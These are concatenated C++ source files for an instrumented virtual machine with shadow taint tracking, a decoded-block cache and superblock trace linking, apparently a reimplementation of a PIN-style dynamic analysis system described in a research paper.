Asm::build()
{
    fatalIf(built_, "asm ", path_, ": image already built");
    built_ = true;

    auto image = std::make_shared<Image>();
    image->path = path_;
    image->sharedObject = sharedObject_;
    image->text = std::move(text_);
    image->data = std::move(data_);
    image->imports = std::move(imports_);
    image->natives = std::move(natives_);

    image->bssSize = bssSize_;

    // Resolve symbols to image-relative addresses.
    const uint32_t data_off = image->dataOffset();
    const uint32_t bss_off = image->bssOffset();
    for (const auto &[name, insn_idx] : codeLabels_)
        image->symbols[name] = insn_idx * INSN_SIZE;
    for (const auto &[name, off] : dataSyms_)
        image->symbols[name] = data_off + off;
    for (const auto &[name, off] : bssSyms_)
        image->symbols[name] = bss_off + off;

    // Verify every relocation target exists.
    for (const auto &reloc : relocs_)
        fatalIf(!image->symbols.count(reloc.symbol),
                "asm ", path_, ": undefined symbol ", reloc.symbol);
    image->relocs = std::move(relocs_);

    if (!entryLabel_.empty()) {
        fatalIf(!image->symbols.count(entryLabel_),
                "asm ", path_, ": undefined entry ", entryLabel_);
        image->entry = image->symbols[entryLabel_];
    }
    return image;
}

uint32_t
Image::symbol(const std::string &name) const
{
    auto it = symbols.find(name);
    fatalIf(it == symbols.end(), "image ", path,
            ": undefined symbol ", name);
    return it->second;
}

} // namespace hth::vm
