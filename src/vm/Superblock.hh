/**
 * @file
 * Superblocks: linked traces of decoded basic blocks.
 *
 * PR 2's decoded-block cache removed re-decoding but still returned
 * to the interpreter's outer loop — one hash lookup, one
 * branch-target resolution — at every block boundary. A superblock
 * goes the rest of the PIN-code-cache way: once a block is hot, the
 * machine records the block chain execution actually follows and
 * flattens it into one instruction sequence with internal side-exit
 * stubs, so straight-line hot paths (loops above all) execute
 * without touching the block cache or the outer dispatch loop at
 * all.
 *
 * Each element is a pre-specialized operation: the handler id fuses
 * the opcode with the execution mode chosen at build time (taint
 * tracking on/off, provably-untainted fast path), the per-image
 * BINARY tag of immediates is pre-interned, and import-table call
 * targets are pre-resolved. Handler ids index the dispatch table of
 * Machine::runSuperblock (computed-goto when the compiler supports
 * labels-as-values, a switch otherwise).
 */

#ifndef HTH_VM_SUPERBLOCK_HH
#define HTH_VM_SUPERBLOCK_HH

#include <cstdint>
#include <vector>

#include "taint/TagSet.hh"
#include "vm/Isa.hh"

namespace hth::vm
{

struct LoadedImage;

/**
 * Superblock operation handlers. One id per (opcode × mode)
 * specialization the builder can emit:
 *
 *  - plain names execute with taint tracking off;
 *  - `_T` variants fuse the generic taint propagation of §7.3.1
 *    into the executing handler (one dispatch instead of two);
 *  - `_TE` variants are the provably-untainted fast path: emitted
 *    only when the whole shadow memory was EMPTY at build time,
 *    they skip shadow lookups entirely and deoptimize the
 *    superblock the moment a taint source would materialize;
 *  - `SB_J*_TAKEN` / `SB_J*_FALL` are in-trace branches whose
 *    recorded direction continues inside the superblock (`dest`)
 *    and whose other direction is a side exit (`exitPc`);
 *  - `SB_X*` are trace-terminal stubs that leave the superblock;
 *  - macro-ops (`SB_MOVRI_ADD*`, `SB_CMP*_J*`, `SB_ADDI_CMPI_J*`)
 *    are peephole fusions of two or three adjacent guest
 *    instructions into one dispatch. The trailing instructions keep
 *    their own unfused (or pair-fused) ops at the following
 *    indices: the fused handler consumes the whole group when the
 *    budget allows and falls back to retiring just the first
 *    instruction otherwise, so budget accounting and pause points
 *    stay instruction-exact. The `ADDI_CMPI` triple is the
 *    loop-control idiom (`addi i,1; cmpi i,n; jcc`) — the counter
 *    bump has no taint effect (immediates carry no new tag), so one
 *    handler serves every execution mode. Memory ops followed by an
 *    `addi` (`SB_LOAD*_ADDI`, `SB_STORE*_ADDI`) fuse in the plain
 *    and `_T` modes only: `_TE` handlers stay unfused so the deopt
 *    path never has a half-retired macro-op to unwind. A
 *    `movri+add` pair immediately feeding such a memory group
 *    grows into the four-instruction indexed-access macro-op
 *    (`SB_MOVRI_ADD_LOAD*_ADDI`, `SB_MOVRI_ADD_STORE*_ADDI`): the
 *    `lea base; add base, index; mem; bump` idiom of array copies
 *    retires in a single dispatch.
 *
 * The list is an X-macro so the enum, the computed-goto label table
 * and the switch fallback can never disagree on ordering.
 */
#define HTH_SB_HANDLERS(X)                                          \
    X(SB_BB)                                                        \
    X(SB_NOP)                                                       \
    X(SB_MOVRR) X(SB_MOVRR_T)                                       \
    X(SB_MOVRI) X(SB_MOVRI_T)                                       \
    X(SB_LEA) X(SB_LEA_T)                                           \
    X(SB_LOAD) X(SB_LOAD_T) X(SB_LOAD_TE)                           \
    X(SB_LOADB) X(SB_LOADB_T) X(SB_LOADB_TE)                        \
    X(SB_STORE) X(SB_STORE_T) X(SB_STORE_TE)                        \
    X(SB_STOREB) X(SB_STOREB_T) X(SB_STOREB_TE)                     \
    X(SB_PUSH) X(SB_PUSH_T) X(SB_PUSH_TE)                           \
    X(SB_PUSHI) X(SB_PUSHI_T)                                       \
    X(SB_POP) X(SB_POP_T) X(SB_POP_TE)                              \
    X(SB_ADD) X(SB_ADD_T)                                           \
    X(SB_ADDI)                                                      \
    X(SB_SUB) X(SB_SUB_T)                                           \
    X(SB_AND) X(SB_AND_T)                                           \
    X(SB_OR) X(SB_OR_T)                                             \
    X(SB_XOR) X(SB_XOR_T) X(SB_XORZ_T)                              \
    X(SB_MUL) X(SB_MUL_T)                                           \
    X(SB_SHL) X(SB_SHR)                                             \
    X(SB_CMP) X(SB_CMPI)                                            \
    X(SB_MOVRI_ADD) X(SB_MOVRI_ADD_T)                               \
    X(SB_CMP_JZ_TAKEN) X(SB_CMP_JZ_FALL)                            \
    X(SB_CMP_JNZ_TAKEN) X(SB_CMP_JNZ_FALL)                          \
    X(SB_CMP_JL_TAKEN) X(SB_CMP_JL_FALL)                            \
    X(SB_CMP_JGE_TAKEN) X(SB_CMP_JGE_FALL)                          \
    X(SB_CMPI_JZ_TAKEN) X(SB_CMPI_JZ_FALL)                          \
    X(SB_CMPI_JNZ_TAKEN) X(SB_CMPI_JNZ_FALL)                        \
    X(SB_CMPI_JL_TAKEN) X(SB_CMPI_JL_FALL)                          \
    X(SB_CMPI_JGE_TAKEN) X(SB_CMPI_JGE_FALL)                        \
    X(SB_ADDI_CMPI_JZ_TAKEN) X(SB_ADDI_CMPI_JZ_FALL)                \
    X(SB_ADDI_CMPI_JNZ_TAKEN) X(SB_ADDI_CMPI_JNZ_FALL)              \
    X(SB_ADDI_CMPI_JL_TAKEN) X(SB_ADDI_CMPI_JL_FALL)                \
    X(SB_ADDI_CMPI_JGE_TAKEN) X(SB_ADDI_CMPI_JGE_FALL)              \
    X(SB_LOAD_ADDI) X(SB_LOAD_T_ADDI)                               \
    X(SB_LOADB_ADDI) X(SB_LOADB_T_ADDI)                             \
    X(SB_STORE_ADDI) X(SB_STORE_T_ADDI)                             \
    X(SB_STOREB_ADDI) X(SB_STOREB_T_ADDI)                           \
    X(SB_MOVRI_ADD_LOAD_ADDI) X(SB_MOVRI_ADD_LOAD_T_ADDI)          \
    X(SB_MOVRI_ADD_LOADB_ADDI) X(SB_MOVRI_ADD_LOADB_T_ADDI)        \
    X(SB_MOVRI_ADD_STORE_ADDI) X(SB_MOVRI_ADD_STORE_T_ADDI)        \
    X(SB_MOVRI_ADD_STOREB_ADDI) X(SB_MOVRI_ADD_STOREB_T_ADDI)      \
    X(SB_CPUID) X(SB_CPUID_T)                                       \
    X(SB_JMP)                                                       \
    X(SB_JZ_TAKEN) X(SB_JZ_FALL)                                    \
    X(SB_JNZ_TAKEN) X(SB_JNZ_FALL)                                  \
    X(SB_JL_TAKEN) X(SB_JL_FALL)                                    \
    X(SB_JGE_TAKEN) X(SB_JGE_FALL)                                  \
    X(SB_XJMP) X(SB_XJZ) X(SB_XJNZ) X(SB_XJL) X(SB_XJGE)            \
    X(SB_XCALL) X(SB_XCALLSYM) X(SB_XCALLR) X(SB_XRET)              \
    X(SB_XSYSCALL) X(SB_XHALT) X(SB_XFALLOFF)

enum SbHandler : uint16_t
{
#define HTH_SB_ENUM(name) name,
    HTH_SB_HANDLERS(HTH_SB_ENUM)
#undef HTH_SB_ENUM
    SB_NUM_HANDLERS,
};

/** One pre-specialized superblock operation. */
struct SbOp
{
    uint16_t handler = SB_NOP;
    Reg r1 = Reg::Eax;
    Reg r2 = Reg::Eax;
    int32_t imm = 0;            //!< operand / pre-resolved target
    uint32_t pc = 0;            //!< guest pc of this instruction
    taint::TagSetId tag = 0;    //!< pre-interned constant tag
    uint32_t dest = 0;          //!< in-trace continuation op index
    uint32_t exitPc = 0;        //!< resume pc for the side exit
};

/** A formed trace. Immutable once published into the block cache. */
struct Superblock
{
    uint32_t entryPc = 0;
    uint32_t blockCount = 0;    //!< constituent basic blocks
    bool taintMode = false;     //!< built for taint tracking on
    bool specialized = false;   //!< `_TE` untainted fast path in use
    /** Shadow materialization epoch the `_TE` specialization was
     * proven against; any later page materialization invalidates
     * the proof and the entry guard deoptimizes. */
    uint64_t shadowEpoch = 0;
    /** Image of the final block (a SB_XSYSCALL terminal reports it
     * in its StepResult, exactly as the generic loop does). */
    const LoadedImage *exitImg = nullptr;
    std::vector<SbOp> ops;
};

} // namespace hth::vm

#endif // HTH_VM_SUPERBLOCK_HH
