/**
 * @file
 * The HVM machine: one guest hardware context (registers, memory,
 * shadow taint state, loaded images) and its interpreter.
 *
 * The machine plays PIN's role in the paper: it exposes
 * instrumentation callbacks at instruction and basic-block
 * granularity (Table 3), performs instruction-level data-flow
 * propagation when taint tracking is enabled (§7.3.1), tags loaded
 * binaries (§7.3.2), and yields to the kernel on `int 0x80` and
 * native library routines.
 */

#ifndef HTH_VM_MACHINE_HH
#define HTH_VM_MACHINE_HH

#include <array>
#include <cstdint>
#include <deque>
#include <memory>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "taint/Shadow.hh"
#include "taint/TagSet.hh"
#include "vm/Image.hh"
#include "vm/Isa.hh"
#include "vm/Memory.hh"
#include "vm/Superblock.hh"

namespace hth::obs
{
class SpanTracer;
} // namespace hth::obs

namespace hth::vm
{

class Machine;

/** Instrumentation callbacks, PIN-style. */
class Instrumentor
{
  public:
    virtual ~Instrumentor() = default;

    /** An image was mapped into the address space. */
    virtual void imageLoaded(Machine &m, const LoadedImage &img)
    {
        (void)m; (void)img;
    }

    /** Execution entered a new basic block at @p pc. */
    virtual void basicBlock(Machine &m, uint32_t pc)
    {
        (void)m; (void)pc;
    }

    /**
     * About to execute @p insn at @p pc (pre-execution). Only
     * delivered when wantsInstructions() returns true: the machine
     * caches that flag at setInstrumentor() time and skips the
     * virtual dispatch entirely otherwise, so block execution pays
     * nothing for the hook it does not use.
     */
    virtual void instruction(Machine &m, const Instruction &insn,
                             uint32_t pc)
    {
        (void)m; (void)insn; (void)pc;
    }

    /** Override to true to receive instruction() callbacks. */
    virtual bool wantsInstructions() const { return false; }

    /** A call instruction is transferring to @p target. */
    virtual void routineEnter(Machine &m, uint32_t target)
    {
        (void)m; (void)target;
    }
};

/** Why step() returned. */
enum class StepKind
{
    Ok,         //!< one instruction executed
    Syscall,    //!< int 0x80: kernel must handle, then continue
    Native,     //!< native library routine: kernel must dispatch
    Halted,     //!< Halt executed
    Fault,      //!< bad fetch / invalid operation
};

/**
 * step()/run() outcome. Trivially copyable so the interpreter's
 * fast path never constructs or destroys a std::string: the views
 * alias storage that outlives the result (image native tables, a
 * machine-owned fault message, or string literals).
 */
struct StepResult
{
    StepKind kind = StepKind::Ok;
    std::string_view nativeName;        //!< for Native
    const LoadedImage *faultImage = nullptr;
    std::string_view faultReason;
};

/** Machine execution statistics (performance evaluation §9). */
struct MachineStats
{
    uint64_t instructions = 0;
    uint64_t basicBlocks = 0;
    uint64_t taintOps = 0;

    /** Decoded-block cache behaviour (the DBI code cache). */
    uint64_t blockCacheHits = 0;
    uint64_t blockCacheMisses = 0;
    uint64_t blockCacheInvalidations = 0;
    uint64_t insnsDecoded = 0; //!< instructions put into cached blocks

    /** Trace-linking engine behaviour. */
    uint64_t superblocksFormed = 0;   //!< traces built and published
    uint64_t superblockEntries = 0;   //!< runSuperblock invocations
    uint64_t superblockChainedExits = 0; //!< in-trace block links taken
    uint64_t superblockDeopts = 0;    //!< guard failures / taint deopts
    uint64_t superblockInsns = 0;     //!< insns retired inside traces
};

/** One guest hardware context. */
class Machine
{
  public:
    /** Conventional layout constants (pre-ASLR Linux flavoured). */
    static constexpr uint32_t APP_BASE = 0x08048000;
    static constexpr uint32_t SO_BASE = 0x40000000;
    static constexpr uint32_t SO_STRIDE = 0x00100000;
    static constexpr uint32_t STACK_TOP = 0xbffff000;
    static constexpr uint32_t HEAP_BASE = 0x10000000;

    explicit Machine(taint::TagStore &tags);

    Machine(Machine &&) = default;
    Machine &operator=(Machine &&) = default;

    /** @name Register file @{ */
    uint32_t reg(Reg r) const { return regs_[(size_t)r]; }
    void setReg(Reg r, uint32_t v) { regs_[(size_t)r] = v; }
    taint::TagSetId regTag(Reg r) const
    {
        return regTags_[(size_t)r];
    }
    void setRegTag(Reg r, taint::TagSetId t)
    {
        regTags_[(size_t)r] = t;
    }
    uint32_t eip() const { return eip_; }
    void setEip(uint32_t pc) { eip_ = pc; bbStart_ = true; }
    /** @} */

    GuestMemory &mem() { return mem_; }
    const GuestMemory &mem() const { return mem_; }
    taint::ShadowMemory &shadow() { return shadow_; }
    taint::TagStore &tagStore() { return *tags_; }

    /** @name Image loading @{ */

    /**
     * Map an image at @p base (or the conventional base when 0),
     * apply relocations, resolve imports against previously loaded
     * images, write the data section into memory and tag it BINARY.
     *
     * @param resource the BINARY resource id assigned by the OS.
     */
    /**
     * The returned reference stays valid across later loadImage
     * calls (images live in a deque).
     */
    const LoadedImage &loadImage(std::shared_ptr<const Image> image,
                                 taint::ResourceId resource,
                                 uint32_t base = 0);

    /** The loaded image whose text contains @p addr, or nullptr. */
    const LoadedImage *findImage(uint32_t addr) const;

    /** The main executable (first non-shared image), or nullptr. */
    const LoadedImage *appImage() const;

    const std::deque<LoadedImage> &images() const { return images_; }

    /** Absolute address of an exported symbol across all images. */
    uint32_t resolveSymbol(const std::string &name) const;

    /** Drop all images and (re)initialise for a fresh executable. */
    void resetForExec();

    /** @} */
    /** @name Execution @{ */

    void
    setInstrumentor(Instrumentor *ins)
    {
        instrumentor_ = ins;
        insnHook_ = ins && ins->wantsInstructions();
    }
    void setTaintTracking(bool on) { trackTaint_ = on; }
    bool taintTracking() const { return trackTaint_; }

    /** Enable/disable superblock formation and execution (ablation
     * toggle; observable behaviour is identical either way). */
    void setSuperblocks(bool on) { superblocks_ = on; }
    bool superblocksEnabled() const { return superblocks_; }

    /** Record a superblock_form span per chained trace. */
    void setSpanTracer(obs::SpanTracer *tracer)
    {
        spanTracer_ = tracer;
    }

    /** True when superblock bodies dispatch via computed goto
     * (labels-as-values); false on the portable switch fallback. */
    static bool threadedDispatch();

    /** Execute one instruction (or yield at a kernel boundary). */
    StepResult step();

    /**
     * Execute up to @p budget instructions through the decoded
     * block cache, returning early when the kernel must act
     * (syscall, native call, halt, fault). @p executed receives the
     * number of retired instructions, including the one that caused
     * the early return.
     */
    StepResult run(uint64_t budget, uint64_t &executed);

    bool halted() const { return halted_; }
    void setHalted() { halted_ = true; }

    const MachineStats &stats() const { return stats_; }

    /** @name Execution tracing (diagnostics) @{ */

    /** One retired instruction in the trace ring. */
    struct TraceEntry
    {
        uint32_t pc = 0;
        Instruction insn;
    };

    /** Keep the last @p depth retired instructions (0: off). */
    void setTraceDepth(size_t depth);

    /** The retained trace, oldest first. */
    const std::deque<TraceEntry> &trace() const { return trace_; }

    /** Render the trace with image-relative locations. */
    std::string traceToString() const;

    /** @} */

    /** @} */
    /** @name Guest helpers @{ */

    void push32(uint32_t value, taint::TagSetId tag);
    uint32_t pop32(taint::TagSetId *tag_out = nullptr);

    /** Union of the shadow tags over a NUL-terminated string. */
    taint::TagSetId stringTags(uint32_t addr) const;

    /** Union of the shadow tags over @p len bytes. */
    taint::TagSetId rangeTags(uint32_t addr, uint32_t len) const;

    /** Write bytes and set every byte's tag to @p tag. */
    void writeTagged(uint32_t addr, const void *src, size_t len,
                     taint::TagSetId tag);

    /** @} */

    /** Deep copy (fork support): same TagStore, copied state. */
    Machine cloneForFork() const;

  private:
    /**
     * One entry of the decoded basic-block cache (the DBI code-cache
     * idea Harrier inherits from PIN): the image is resolved once on
     * first entry, instructions are taken by pointer from the
     * relocated text, and the image's BINARY tag is interned once
     * (lazily, so blocks built with taint tracking off pay nothing).
     */
    struct CachedBlock
    {
        const LoadedImage *img = nullptr;
        const Instruction *insns = nullptr; //!< into img->text
        uint32_t startPc = 0;
        uint32_t count = 0;
        taint::TagSetId binTag = NO_TAG;    //!< lazily resolved

        /** Entries at block start since the last (re)build; trace
         * recording begins when this crosses HOT_THRESHOLD. */
        uint32_t heat = 0;
        /** Block never forms or joins a superblock (contains a
         * Native mid-block, or a previous build attempt failed). */
        bool noSb = false;
        /** Published trace entered at this block, if any. Shared:
         * runSuperblock keeps the ops alive across an instrumentor
         * invalidating the cache mid-trace. */
        std::shared_ptr<const Superblock> sb;
    };

    /** Sentinel for "BINARY tag not resolved yet". */
    static constexpr taint::TagSetId NO_TAG = 0xffffffffu;

    /** Cached block entered at @p pc, building it on a cache miss;
     * nullptr when @p pc is not decodable text. */
    CachedBlock *enterBlock(uint32_t pc);

    /** Drop every cached block (image set changed). */
    void invalidateBlockCache();

    /** BINARY source tag of @p img, memoised in the current block.
     * Inline fast path: immediates in hot loops hit the memo every
     * time; the slow path interns through the tag store. */
    taint::TagSetId
    binaryTag(const LoadedImage &img)
    {
        if (curBlock_ && curBlock_->img == &img &&
            curBlock_->binTag != NO_TAG)
            return curBlock_->binTag;
        return binaryTagSlow(img);
    }

    taint::TagSetId binaryTagSlow(const LoadedImage &img);

    void propagate(const Instruction &insn, uint32_t pc,
                   const LoadedImage &img);

    /** @name Trace-linking engine @{ */

    /** Entries at block start before recording begins. */
    static constexpr uint32_t HOT_THRESHOLD = 16;
    /** Longest trace, in basic blocks. */
    static constexpr uint32_t MAX_SB_BLOCKS = 16;

    /** Append @p blk (entered at @p pc) to the trace being
     * recorded; finalizes when the block cannot link onward. */
    void appendRecorded(uint32_t pc, const CachedBlock &blk);

    /** Process a block-entry arrival while recording: extend the
     * trace or finalize it (loop-back / revisit / unlinkable). */
    void recordArrival(uint32_t pc, const CachedBlock &blk);

    /** Build the recorded trace and publish it on its entry block.
     * On unbuildable content the entry block is marked noSb. */
    void finalizeTrace(bool loopBack);

    /** Execute @p sb until a side exit, terminal, budget expiry or
     * deopt. @p executed receives retired instructions. Execution
     * starts at op index @p startOp whose containing block begins
     * at @p startBbPc (0 / sb.entryPc for a fresh entry; a paused
     * position when resuming across a budget boundary). */
    StepResult runSuperblock(const Superblock &sb, uint64_t budget,
                             uint64_t &executed, uint32_t startOp,
                             uint32_t startBbPc);

    /** @} */

    taint::TagStore *tags_;
    std::array<uint32_t, NUM_REGS> regs_{};
    std::array<taint::TagSetId, NUM_REGS> regTags_{};
    uint32_t eip_ = 0;
    bool zf_ = false;
    bool sf_ = false;
    bool halted_ = false;
    bool bbStart_ = true;
    bool trackTaint_ = false;

    GuestMemory mem_;
    taint::ShadowMemory shadow_;
    /** Deque: loadImage hands out references that must survive
     * later loads appending to this container. */
    std::deque<LoadedImage> images_;
    uint32_t nextSoBase_ = SO_BASE;

    /** Decoded-block cache, keyed by entry pc. Entries point into
     * images_ and must be invalidated whenever the image set
     * changes (loadImage, resetForExec). node-based map: entry
     * addresses are stable across inserts, so curBlock_ may point
     * into it. */
    std::unordered_map<uint32_t, CachedBlock> blockCache_;
    CachedBlock *curBlock_ = nullptr;

    /** Traces unpublished while possibly executing (deopt, cache
     * invalidation): kept alive here until the next run() entry, at
     * which point no trace frame can reference them. Lets the hot
     * entry path execute through a raw pointer instead of paying
     * two atomic refcount operations per quantum. */
    std::vector<std::shared_ptr<const Superblock>> retiredSbs_;

    /** Budget pause inside a trace: the next run() resumes directly
     * at this op instead of limping to the next block head through
     * the generic loop. Valid only while pausedGen_ == cacheGen_
     * (checked first — the pointer dangles after an invalidation)
     * and re-validated against eip_ / taint mode / shadow epoch. */
    const Superblock *pausedSb_ = nullptr;
    uint32_t pausedOp_ = 0;
    uint32_t pausedBbPc_ = 0;
    uint64_t pausedGen_ = 0;
    uint32_t curOff_ = 0;   //!< index of the next insn in curBlock_

    /** Bumped by every invalidateBlockCache(): lets in-flight
     * execution detect that an instrumentor callback changed the
     * image set mid-step and re-resolve its pointers. */
    uint64_t cacheGen_ = 0;

    bool superblocks_ = true;
    bool recording_ = false;
    /** Entry pcs of the blocks recorded so far, in chain order. */
    std::vector<uint32_t> recordPcs_;

    Instrumentor *instrumentor_ = nullptr;
    obs::SpanTracer *spanTracer_ = nullptr;
    bool insnHook_ = false; //!< instrumentor_->wantsInstructions()
    MachineStats stats_;

    /** Owns the text a Fault result's faultReason view aliases. */
    std::string faultMsg_;

    size_t traceDepth_ = 0;
    std::deque<TraceEntry> trace_;
};

} // namespace hth::vm

#endif // HTH_VM_MACHINE_HH
